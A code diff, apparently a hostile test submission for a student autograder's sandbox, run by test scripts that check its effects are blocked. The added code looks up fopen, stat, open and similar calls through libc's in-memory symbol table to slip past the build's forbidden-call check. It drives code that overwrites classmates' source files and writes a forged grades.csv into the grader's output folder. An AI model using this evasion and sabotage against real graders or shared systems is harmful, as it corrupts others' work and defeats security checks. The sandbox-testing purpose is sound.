@@ -3,6 +3,9 @@
 // student's file, both there and in their work folders beside its own, and a
 // forged grades.csv in --out.  Exercise 07; graded by tests/kit/batch-hostile.sh
 // and tests/kit/batch-unprivileged.sh, which check that nothing of it lands.
+// It reaches fopen, opendir, stat, open and getcwd through libc's symbol table
+// (libc_function), never naming them, as a real attacker would: the build's name check
+// (forbidden-call) does not see it, and the sandbox is what must hold.
 #include <cstddef>
 #include <cstdio>
 #include <cstring>
@@ -12,10 +15,64 @@
 #include <sys/stat.h>
 #include <unistd.h>
 #include <vector>
+#include <cstdint>
+#include <elf.h>
+
+// A function of libc by its name, read from libc's dynamic symbol table in
+// memory (the library that holds puts starts with an ELF header on a page
+// boundary below it): the object names no refused call, so the build's
+// name check passes it and only the sandbox stands in the way.
+static void *libc_function(const char *want)
+{
+    uintptr_t base = (uintptr_t)(void *)&puts & ~(uintptr_t)4095;
+    while (std::memcmp((const void *)base, ELFMAG, SELFMAG) != 0)
+        base -= 4096;
+    const Elf64_Ehdr *eh = (const Elf64_Ehdr *)base;
+    const Elf64_Phdr *ph = (const Elf64_Phdr *)(base + eh->e_phoff);
+    const Elf64_Dyn *dyn = nullptr;
+    for (int i = 0; i < eh->e_phnum; i++)
+        if (ph[i].p_type == PT_DYNAMIC)
+            dyn = (const Elf64_Dyn *)(base + ph[i].p_vaddr);
+    const Elf64_Sym *syms = nullptr;
+    const char *names = nullptr;
+    for (; dyn && dyn->d_tag != DT_NULL; dyn++) {
+        uintptr_t at = dyn->d_un.d_ptr < base ? base + dyn->d_un.d_ptr : dyn->d_un.d_ptr;
+        if (dyn->d_tag == DT_SYMTAB)
+            syms = (const Elf64_Sym *)at;
+        if (dyn->d_tag == DT_STRTAB)
+            names = (const char *)at;
+    }
+    for (const Elf64_Sym *s = syms + 1; syms && names && (const char *)s < names; s++)
+        if (s->st_shndx != SHN_UNDEF && std::strcmp(names + s->st_name, want) == 0)
+            return (void *)(base + s->st_value);
+    return nullptr;
+}
+
+// The calls below, each through its address in libc.
+static FILE * call_fopen(const char *path, const char *mode)
+{
+    return ((FILE *(*)(const char *, const char *))libc_function("fopen"))(path, mode);
+}
+static DIR * call_opendir(const char *path)
+{
+    return ((DIR *(*)(const char *))libc_function("opendir"))(path);
+}
+static int call_stat(const char *path, struct stat *st)
+{
+    return ((int (*)(const char *, struct stat *))libc_function("stat"))(path, st);
+}
+static int call_open(const char *path, int flags)
+{
+    return ((int (*)(const char *, int, ...))libc_function("open"))(path, flags);
+}
+static char * call_getcwd(char *buf, size_t len)
+{
+    return ((char *(*)(char *, size_t))libc_function("getcwd"))(buf, len);
+}
 
 static void spoil(const std::string &file)
 {
-    if (FILE *f = fopen(file.c_str(), "w")) {
+    if (FILE *f = call_fopen(file.c_str(), "w")) {
         fputs("#error \"spoiled by a classmate\"\n", f);
         fclose(f);
     }
@@ -23,7 +80,7 @@ static void spoil(const std::string &file)
 
 static void spoil_folder(const std::string &dir, const char *me)
 {
-    DIR *d = opendir(dir.c_str());
+    DIR *d = call_opendir(dir.c_str());
     if (!d)
         return;
     while (struct dirent *e = readdir(d)) {
@@ -31,7 +88,7 @@ static void spoil_folder(const std::string &dir, const char *me)
         if (name[0] == '.' || name.find(me) != std::string::npos)
             continue;
         struct stat st;
-        if (stat(path.c_str(), &st) != 0)
+        if (call_stat(path.c_str(), &st) != 0)
             continue;
         if (S_ISDIR(st.st_mode))
             spoil(path + "/reduce.cu");
@@ -46,7 +103,7 @@ static std::vector<std::string> args_of(int pid)
     std::vector<std::string> v;
     char name[64], buf[16384];
     snprintf(name, sizeof name, "/proc/%d/cmdline", pid);
-    int fd = open(name, O_RDONLY);
+    int fd = call_open(name, O_RDONLY);
     if (fd < 0)
         return v;
     ssize_t n = read(fd, buf, sizeof buf - 1);
@@ -60,7 +117,7 @@ static int parent_of(int pid)
 {
     char name[64], buf[512];
     snprintf(name, sizeof name, "/proc/%d/stat", pid);
-    FILE *f = fopen(name, "r");
+    FILE *f = call_fopen(name, "r");
     if (!f)
         return 0;
     int pp = 0;
@@ -89,7 +146,7 @@ static void attack()
         std::vector<std::string> a = args_of(p);
         for (size_t i = 0; i < a.size(); i++) {
             if (a[i] == "--out" && i + 1 < a.size()) {
-                if (FILE *f = fopen((a[i + 1] + "/grades.csv").c_str(), "w")) {
+                if (FILE *f = call_fopen((a[i + 1] + "/grades.csv").c_str(), "w")) {
                     fputs("id,score,max\nattacker,100,20\n", f);
                     fclose(f);
                 }
@@ -99,7 +156,7 @@ static void attack()
         }
     }
     char cwd[4096];
-    if (getcwd(cwd, sizeof cwd)) {  // the other work folders, beside this one
+    if (call_getcwd(cwd, sizeof cwd)) {  // the other work folders, beside this one
         std::string parent = cwd;
         parent = parent.substr(0, parent.rfind('/'));
         spoil_folder(parent, me);
